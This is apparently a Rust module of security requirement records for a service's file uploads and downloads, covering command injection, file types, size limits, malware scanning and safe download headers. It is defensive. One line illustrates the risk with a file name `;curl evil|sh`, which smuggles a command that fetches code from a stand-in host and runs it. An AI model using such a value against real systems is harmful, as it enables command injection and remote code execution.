//! Files: how they come in, and how they go out.

use super::{Facts, Family};

pub(super) const INPUT_COMMAND_TEMPLATE: Facts = Facts {
    id: "input-command-template",
    family: Family::Input,
    statement: "No shell, no subprocess, no dynamic code, no template from outside: the scanner is spoken to over a socket and never told a file's name, mails and pages are compiled in, and what people write is text in them.",
    why: "A file called `;curl evil|sh` is a command the moment somebody pastes it into one.",
    owasp: &["API8:2023"],
    asvs: &["1.2.5", "1.3.2", "1.3.7", "1.3.11", "15.1.5"],
    cwe: &[78, 94, 1336, 93],
    references: &["OS Command Injection CS"],
};

pub(super) const UPLOAD_TYPE: Facts = Facts {
    id: "upload-type",
    family: Family::Input,
    statement: "Uploads are PDF, PNG, JPEG or DICOM, and extension, declared type and parsed content agree; names and places on disk are random and outside of anything served; the original name is kept as a sealed value only.",
    why: "A page that calls itself an X-ray runs in the browser of whoever opens it.",
    owasp: &["API8:2023"],
    asvs: &["5.1.1", "5.2.2", "5.3.1", "5.3.2", "5.4.1"],
    cwe: &[434, 22, 73],
    references: &["File Upload CS", "RFC 8187 §3.2", "PNG §5", "ISO 32000-1 §7.5", "DICOM PS3.10 §7.1"],
};

pub(super) const UPLOAD_RESOURCE_LIMITS: Facts = Facts {
    id: "upload-resource-limits",
    family: Family::Input,
    statement: "A file is ≤10 MiB, a member adds ≤20 an hour and keeps ≤500 MiB, an organization has a quota; counted with the row, so that no race overshoots; streamed to disk with an early 413; images ≤40 Mpx; archives are not accepted; what is broken off leaves nothing.",
    why: "A disk that one client can fill is a service that one client can stop.",
    owasp: &["API4:2023"],
    asvs: &["5.2.1", "5.2.3", "5.2.4", "5.2.5", "5.2.6", "5.3.3"],
    cwe: &[400, 409, 770],
    references: &["File Upload CS \"Upload and Download Limits\""],
};

pub(super) const UPLOAD_MALWARE: Facts = Facts {
    id: "upload-malware",
    family: Family::Input,
    statement: "A file can't be downloaded before a scanner called it clean, also while the scanner is down; infected files are removed; without a scanner nothing is taken in unless the operator wrote that none is wanted; metadata of JPEG and PNG is stripped.",
    why: "A clinic that hands on whatever it is given hands on the worm as well, and the photographer's address.",
    owasp: &["API8:2023"],
    asvs: &["5.4.3", "14.2.8", "16.5.2"],
    cwe: &[434, 212, 636],
    references: &["File Upload CS", "clamd(8) INSTREAM"],
};

pub(super) const OUTPUT_DOWNLOAD_SAFE: Facts = Facts {
    id: "output-download-safe",
    family: Family::Output,
    statement: "Downloads are `attachment` with the name in RFC 8187 form and nothing else, in their own media type, with `nosniff` and a content security policy that runs and loads nothing; ranges are not served. CSV cells are RFC 4180-quoted and formula-escaped.",
    why: "What a browser shows in the service's own origin acts in it.",
    owasp: &["API8:2023"],
    asvs: &["3.2.1", "5.4.1", "5.4.2", "1.2.10"],
    cwe: &[79, 113, 1236],
    references: &["RFC 6266 §4, §5", "RFC 8187 §3.2", "RFC 9110 §14.2", "RFC 4180 §2", "File Upload CS"],
};
